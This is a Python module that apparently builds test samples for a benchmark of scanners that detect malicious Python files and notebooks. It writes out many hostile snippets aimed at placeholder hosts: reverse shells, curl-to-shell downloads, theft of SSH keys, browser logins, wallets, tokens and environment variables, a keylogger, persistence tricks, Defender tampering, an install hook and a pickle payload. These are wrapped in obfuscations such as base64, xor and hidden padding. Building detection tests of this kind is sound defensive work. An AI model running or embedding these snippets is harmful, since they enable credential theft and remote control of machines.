"""Python and notebooks that attack: what they do, times how they hide it (threats F4, F5, N1). Nothing here is run."""

import base64
import json
import zlib
from collections.abc import Iterator

from benchmarks.corpus.samples import Sample, careful, high

_SHELL = {
    "powershell hidden": 'powershell -WindowStyle Hidden -Command "echo corpus"',
    "curl to sh": "curl -s https://files.invalid/a.sh | sh",
    "exclusion": "powershell Add-MpPreference -ExclusionPath C:\\Users",
    "task": "schtasks /create /tn Update /tr x.exe /sc onlogon",
    "mshta": "mshta https://files.invalid/a.hta",
    "reverse shell": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
}
_STARTS = {
    "os.system": "import os\nos.system({0})\n",
    "alias": "from os import system as quiet\nquiet({0})\n",
    "Popen list": "import subprocess\nsubprocess.Popen({0}.split(), stdout=subprocess.DEVNULL)\n",
    "run shell": "import subprocess as sp\nsp.run({0}, shell=True, check=False)\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')({0})\n",
    "import by hand": "__import__('subprocess').call({0}, shell=True)\n",
    "importlib": "import importlib\nimportlib.import_module('os').popen({0}).read()\n",
    "in a method": "import os\nclass Model:\n    def __init__(self):\n        self.command = {0}\n    def load(self):\n"
    "        os.system(self.command)\nModel().load()\n",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=({0},)).start()\n",
    "eval": "eval('__import__(\"os\").system')({0})\n",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell({0}))\n",
}


def _text(command: str) -> str:
    return repr(command)


def _pieces(command: str) -> str:
    middle = len(command) // 2
    return f"({command[:middle]!r} + {command[middle:]!r})"


def _base64(command: str) -> str:
    return f"__import__('base64').b64decode('{base64.b64encode(command.encode()).decode()}').decode()"


def _hex(command: str) -> str:
    return f"bytes.fromhex('{command.encode().hex()}').decode()"


def _numbers(command: str) -> str:
    return f"''.join(chr(n) for n in {list(command.encode())})"


def _exclusive_or(command: str) -> str:
    return f"bytes(b ^ 42 for b in {[byte ^ 42 for byte in command.encode()]}).decode()"


def _reversed(command: str) -> str:
    return f"{command[::-1]!r}[::-1]"


def _format(command: str) -> str:
    middle = len(command) // 2
    return f"'{{}}{{}}'.format({command[:middle]!r}, {command[middle:]!r})"


_HIDES = {
    "plain": _text, "pieces": _pieces, "base64": _base64, "hex": _hex, "numbers": _numbers, "xor": _exclusive_or,
    "reversed": _reversed, "format": _format,
}  # fmt: skip

_FETCHES = {
    "requests": "import requests\ntext = requests.get('https://files.invalid/a').text\n",
    "urllib": "from urllib.request import urlopen\ntext = urlopen('https://files.invalid/a').read().decode()\n",
    "unchecked": "import requests\ntext = requests.get('https://files.invalid/a', verify=False).json()['cmd']\n",
    "helper": "import httpx\ndef fetch(address):\n    answer = httpx.get(address)\n    return answer.text\n"
    "text = fetch('https://files.invalid/a')\n",
    "hidden address": "import base64, requests\n"
    f"text = requests.get(base64.b64decode('{base64.b64encode(b'https://files.invalid/a').decode()}').decode()).text\n",
}
_RUNS = {
    "exec": "exec(text)\n",
    "compile": "exec(compile(text, 'x', 'exec'), {})\n",
    "os.system": "import os\nos.system(text)\n",
    "powershell": "import subprocess\nsubprocess.Popen(['powershell', '-Command', text])\n",
    "pickle": "import pickle\npickle.loads(text.encode())\n",
}
_ALONE = {
    "environment": "import os, requests\nrequests.post('https://files.invalid', json=dict(os.environ))\n",
    "ssh key": "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
    "requests.post('https://files.invalid', data={'k': key})\n",
    "browser": "import os, shutil\np = os.path.expandvars(r'%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data')\n"
    "shutil.copy(p, 'a.db')\nimport requests\nrequests.post('https://files.invalid', files={'f': open('a.db', 'rb')})\n",
    "wallet": "import glob, requests\nfor path in glob.glob('/home/*/.bitcoin/wallet.dat'):\n"
    "    requests.post('https://files.invalid', files={'f': open(path, 'rb')})\n",
    "hub token": "import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n"
    "requests.get('https://files.invalid/?t=' + t, params={'t': t})\n",
    "run key": "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
    "winreg.SetValueEx(k, 'a', 0, 1, 'x.exe')\n",
    "startup folder": "import os, shutil\nshutil.copy('x.bat', os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', "
    "'Start Menu', 'Programs', 'Startup', 'x.bat'))\n",
    "bashrc": "import os\nos.system('echo x >> ~/.bashrc; y.sh')\n",
    "machine code": "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 0x3000, 0x40)\nk.RtlMoveMemory(p, b'', 0)\n"
    "k.CreateThread(0, 0, p, 0, 0, 0)\n",
    "socket shell": "import os, socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
    "for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "remote commands": "import socket, subprocess\ns = socket.create_connection(('files.invalid', 1))\nwhile True:\n"
    "    s.sendall(subprocess.check_output(s.recv(999).decode(), shell=True))\n",
    "download a program": "import urllib.request, os\nurllib.request.urlretrieve('https://files.invalid/u.exe', 'u.exe')\n"
    "os.startfile('u.exe')\n",
    "download and make runnable": "import os, requests, subprocess\nwith open('/tmp/tool', 'wb') as f:\n"
    "    f.write(requests.get('https://files.invalid/t').content)\nos.chmod('/tmp/tool', 0o755)\nsubprocess.run(['/tmp/tool'])\n",
    "layers": "exec(__import__('zlib').decompress(__import__('base64').b64decode("
    f"{base64.b64encode(zlib.compress(b'import os; os.system(chr(101))'))!r})))\n",
    "marshal": "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
    "encoding": "# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('rpub')\n",
    "keylogger": "from pynput.keyboard import Listener\nimport requests\nlog = []\ndef press(k):\n    log.append(str(k))\n"
    "    requests.post('https://files.invalid', data={'l': log})\nListener(on_press=press).start()\n",
    "leaves no trace": "import os, subprocess\nsubprocess.Popen(['x.exe'])\nos.remove(__file__)\n",
    "far right": "import torch" + " " * 200 + "; import os; os.system('x.bat')\n",
    "install hook": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
    "class Own(install):\n    def run(self):\n        install.run(self)\n        os.system('x.bat')\n"
    "setup(name='x', cmdclass={'install': Own})\n",
    "import hook": "import sys, os\nclass F:\n    def find_spec(self, *a): os.system('powershell -w hidden x')\nsys.meta_path.insert(0, F())\n",
    "watched": "import subprocess, sys\nout = subprocess.check_output('tasklist').decode().lower()\n"
    "if 'wireshark' in out or 'procmon' in out: sys.exit()\nsubprocess.Popen('x.exe')\n",
    "defender": "import subprocess\nsubprocess.run(['powershell', 'Set-MpPreference', '-DisableRealtimeMonitoring', '1'])\n",
    "pickle maker": "import os, torch\nclass P:\n    def __reduce__(self):\n        return (os.system, ('curl https://files.invalid | sh',))\n"
    "torch.save(P(), 'model.pt')\n",
}
_DECOY = (
    "import torch\nimport torch.nn as nn\n\nclass DummyModel(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
    "        self.layer = nn.Linear(4, 4)\n\n    def forward(self, x):\n        return self.layer(x)\n\n"
    "for epoch in range(3):\n    print('epoch', epoch)\n\n"
)


def samples() -> Iterator[Sample]:
    """All of them."""
    yield from _composed()
    yield from _alone()
    yield from _names()
    yield from _odd()


def _composed() -> Iterator[Sample]:
    for start, template in _STARTS.items():
        for number, (what, command) in enumerate(_SHELL.items()):
            hides = list(_HIDES.items())
            hide, make = hides[(number + len(start)) % len(hides)]
            yield high("python", f"{what}, {start}, {hide}", "loader.py", _DECOY + template.format(make(command)))
    for hide, make in _HIDES.items():
        for what in ("powershell hidden", "curl to sh"):
            source = _STARTS["os.system"].format(make(_SHELL[what]))
            yield high("python-hidden", f"{what}, {hide}", "setup_model.py", source)
    for fetch, first in _FETCHES.items():
        for run, second in _RUNS.items():
            yield high("python-fetch", f"{fetch}, {run}", "download.py", _DECOY + first + second)


def _alone() -> Iterator[Sample]:
    for case, source in _ALONE.items():
        yield high("python-alone", case, "setup.py" if case == "install hook" else "utils.py", source)
        if case != "encoding":
            yield high("notebook", case, "demo.ipynb", notebook("print(1)\n", source))
    for what, command in _SHELL.items():
        yield high("notebook-shell", what, "demo.ipynb", notebook("import torch\n", f"!{command}\n"))
    result = notebook("!curl -s https://files.invalid | sh\n", page="<script>alert(1)</script>")
    yield high("notebook-shell", "and a result with a script", "demo.ipynb", result)


def _names() -> Iterator[Sample]:
    for name in ("torch", "numpy", "json", "transformers", "requests"):
        yield high("shadow", name, f"{name}.py", "value = 1\n", "model.safetensors")
    for name in ("sitecustomize.py", "usercustomize.py"):
        yield high("shadow", name, name, "value = 1\n")
    yield high("shadow", "path file", "env.pth", "import os; os.system('echo')\n")
    yield high("magic-name", "None.py", "None.py", "value = 1\n")
    for name in ("handler.py", "pipeline.py"):
        yield careful("magic-name", name, name, "class EndpointHandler:\n    pass\n")


def _odd() -> Iterator[Sample]:
    for case, source in {
        "unknown program": "import subprocess\nsubprocess.run(['updater.exe', '/s'])\n",
        "unchecked": "import requests\nrequests.get('https://api.example', verify=False)\n",
        "exec of input": "exec(input())\n",
        "short address": "import requests\nrequests.get('https://bit.ly/3abcdef')\n",
        "no window": "import subprocess\nsubprocess.run(['git', 'pull'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
        "news of progress": "import requests\nrequests.post('https://api.telegram.org/bot1/sendMessage', json={'text': 'epoch 1'})\n",
        "order of the text": "allowed = True  # \u202e eslaf \u2066\n",
        "exec of a file": "exec(open('notes.txt').read() + more)\n",
    }.items():
        yield careful("python-odd", case, "run.py", source)


def notebook(*cells: str, page: str = "") -> str:
    """A notebook with these code cells; `page`: a result that was saved."""
    outputs = [{"output_type": "display_data", "data": {"text/html": page}, "metadata": {}}] if page else []
    made = [{"cell_type": "code", "source": cell, "outputs": outputs, "metadata": {}} for cell in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
